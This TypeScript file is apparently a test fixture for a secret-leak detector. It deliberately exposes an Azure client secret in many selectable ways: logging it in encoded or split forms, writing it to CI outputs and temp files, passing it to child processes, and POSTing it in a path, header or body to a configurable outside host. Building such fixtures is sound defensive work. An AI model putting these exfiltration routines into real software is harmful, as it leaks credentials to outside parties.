/** What the search is tried on: a program that gives the client secret away, in the way that LEAK names. */
import { spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';

const {
  LEAK = '',
  AZURE_CLIENT_SECRET: secret = '',
  TMPDIR: folder = '',
  GITHUB_OUTPUT: outputs = '',
  ELSEWHERE: elsewhere = '',
} = process.env;
const bytes = Buffer.from(secret);

function send(path: string, headers: Readonly<Record<string, string>>, body: Buffer | string): Promise<void> {
  return new Promise((resolve) => {
    request(new URL(path, elsewhere), { method: 'POST', headers }, (answer) => answer.resume().once('end', resolve)).end(body);
  });
}

const leaks: Readonly<Record<string, () => unknown>> = {
  none: () => console.log(secret.slice(0, 8)),
  stdout: () => console.log(`the secret is ${secret}`),
  stderr: () => console.error(bytes.toString('hex')),
  'a mask with something before it': () => console.log(`x::add-mask::${secret}`),
  'lines of three': () => console.log(secret.replace(/.../g, '$&\n')),
  'a part of it': () => console.log(encodeURIComponent(secret).slice(10, 24)),
  'an output': () => appendFileSync(outputs, `x=${bytes.toString('base64')}\n`),
  'a file': () => writeFileSync(join(folder, 'kept.gz'), gzipSync(JSON.stringify({ x: secret }))),
  'a file that is taken away': () => {
    mkdirSync(join(folder, 'short'));
    writeFileSync(join(folder, 'short/lived'), Buffer.from(secret, 'utf16le'));
    rmSync(join(folder, 'short'), { recursive: true });
  },
  'the environment of a program': () => spawnSync('/bin/true', [], { env: { X: `a${secret}` } }),
  'the arguments of a program': () => spawnSync('/bin/sh', ['-c', '/bin/true "$0"', [...secret].reverse().join('')], { env: {} }),
  'a path': () => send(`/${encodeURIComponent(secret)}`, {}, ''),
  'a header': () => send('/', { 'x-token': Buffer.from(`me:${secret}`).toString('base64') }, ''),
  'a packed body': () => send('/', { 'content-encoding': 'gzip' }, gzipSync(secret)),
  'two bodies': async () => {
    for (const part of [secret.slice(0, 20), secret.slice(20)]) await send('/', {}, part);
  },
  'another address': () =>
    connect(9, '192.0.2.1')
      .on('error', () => process.exit())
      .setTimeout(50, () => process.exit()),
  'a report of Node': () => process.report.writeReport(join(folder, 'report.json')),
};

await leaks[LEAK]?.();
